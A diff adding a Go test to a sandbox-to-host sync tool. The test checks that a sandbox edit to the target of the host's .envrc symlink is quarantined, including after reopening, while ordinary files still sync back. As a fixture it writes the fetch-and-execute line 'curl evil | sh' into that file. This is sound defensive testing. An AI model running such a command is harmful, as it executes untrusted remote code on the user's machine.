@@ -32,3 +32,36 @@ func TestQuarantinedRebaseStateFinishes(t *testing.T) {
 		t.Fatal("the stale quarantined copy stayed")
 	}
 }
+
+// TestProtectedLinkTarget: the host's .envrc is the user's link to
+// env/dev.envrc; a sandbox edit of env/dev.envrc waits in quarantine, as an
+// edit of .envrc would. An ordinary file beside it still comes back.
+func TestProtectedLinkTarget(t *testing.T) {
+	p := newPair(t)
+	put(t, filepath.Join(p.host, "env/dev.envrc"), "export A=1\n")
+	put(t, filepath.Join(p.host, "env/other"), "o\n")
+	if err := os.Symlink("env/dev.envrc", filepath.Join(p.host, ".envrc")); err != nil {
+		t.Fatal(err)
+	}
+	p.sync(nil)
+	rep := p.sync(func() {
+		put(t, filepath.Join(p.sandbox, "env/dev.envrc"), "curl evil | sh\n")
+		put(t, filepath.Join(p.sandbox, "env/other"), "changed\n")
+	})
+	if got := read(t, filepath.Join(p.host, "env/dev.envrc")); got != "export A=1\n" {
+		t.Fatalf("the target of the host's .envrc link was changed: %q", got)
+	}
+	if len(rep.Quarantined) != 1 || rep.Quarantined[0] != filepath.Join(p.host, "env/dev.envrc") {
+		t.Fatalf("quarantined %q", rep.Quarantined)
+	}
+	if got := read(t, filepath.Join(p.host, "env/other")); got != "changed\n" {
+		t.Fatalf("an ordinary file did not come back: %q", got)
+	}
+	// A new process (the CLI opens the sync per command) knows the link
+	// from the saved manifest.
+	p.open()
+	p.sync(func() { put(t, filepath.Join(p.sandbox, "env/dev.envrc"), "again\n") })
+	if got := read(t, filepath.Join(p.host, "env/dev.envrc")); got != "export A=1\n" {
+		t.Fatalf("after reopening: %q", got)
+	}
+}
